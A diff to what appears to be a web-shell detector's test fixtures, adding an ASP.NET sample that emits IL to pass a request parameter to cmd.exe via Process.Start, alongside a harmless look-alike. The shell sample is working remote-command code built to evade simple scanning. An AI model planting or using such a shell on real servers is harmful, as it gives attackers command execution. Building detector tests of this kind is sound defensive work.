@@ -65,6 +65,22 @@ SHELLS = [
         "EXH-WS-CODE-ASSEMBLY",
         ["the request body", "called from IL the code emits", "Assembly.Load"],
     ),
+    (
+        "emit-ldstr.aspx",
+        # The command line loaded by the IL itself (Ldstr of request data), the method run bare.
+        page(
+            'var dm = new DynamicMethod("x", null, null);\n'
+            "var il = dm.GetILGenerator();\n"
+            'il.Emit(OpCodes.Ldstr, "cmd.exe");\n'
+            'il.Emit(OpCodes.Ldstr, "/c " + Request["c"]);\n'
+            'il.Emit(OpCodes.Call, typeof(System.Diagnostics.Process).GetMethod("Start", new[] { typeof(string), typeof(string) }));\n'
+            "il.Emit(OpCodes.Pop);\n"
+            "il.Emit(OpCodes.Ret);\n"
+            "dm.Invoke(null, null);"
+        ),
+        "EXH-WS-CODE-PROCESS",
+        ["request parameter 'c'", "called from IL the code emits", "Process.Start"],
+    ),
 ]
 
 BENIGN = [
@@ -79,6 +95,18 @@ BENIGN = [
             'il.EmitCall(OpCodes.Call, typeof(string).GetMethod("Concat", new Type[] { typeof(string), typeof(string) }), null);\n'
             "il.Emit(OpCodes.Ret);\n"
             'lit.Text = Server.HtmlEncode((string)dm.Invoke(null, new object[] { Request["q"], " results" }));'
+        ),
+    ),
+    (
+        "ldstr.aspx",
+        # IL that loads the visitor's text as a string for the harmless method it calls.
+        page(
+            'var dm = new DynamicMethod("up", typeof(string), null);\n'
+            "var il = dm.GetILGenerator();\n"
+            'il.Emit(OpCodes.Ldstr, Request["q"]);\n'
+            'il.EmitCall(OpCodes.Callvirt, typeof(string).GetMethod("ToUpperInvariant", Type.EmptyTypes), null);\n'
+            "il.Emit(OpCodes.Ret);\n"
+            "lit.Text = Server.HtmlEncode((string)dm.Invoke(null, null));"
         ),
     ),
     (
